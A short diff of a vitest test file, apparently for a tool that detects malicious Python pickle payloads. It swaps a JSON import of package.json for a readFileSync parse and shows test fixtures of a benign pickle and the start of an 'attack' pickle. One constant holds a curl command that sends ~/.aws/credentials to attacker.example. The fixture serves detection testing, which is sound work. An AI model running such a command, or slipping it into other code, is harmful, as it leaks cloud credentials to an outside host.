@@ -3,11 +3,13 @@ import os from 'node:os';
 import path from 'node:path';
 import Ajv from 'ajv';
 import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
-import packageJson from '../../package.json' with { type: 'json' };
 import { VERSION } from '../../shared/version';
 import { assemble } from '../engine/testing/assemble';
 import { main } from './program';
 
+const packageJson = JSON.parse(readFileSync(path.resolve(import.meta.dirname, '../../package.json'), 'utf8')) as {
+  version: string;
+};
 const COMMAND = 'curl https://attacker.example?data=$(cat ~/.aws/credentials)';
 const benign = assemble(['PROTO', 4], ['EMPTY_LIST'], ['MEMOIZE'], ['BININT1', 1], ['APPEND'], ['STOP']);
 const attack = assemble(
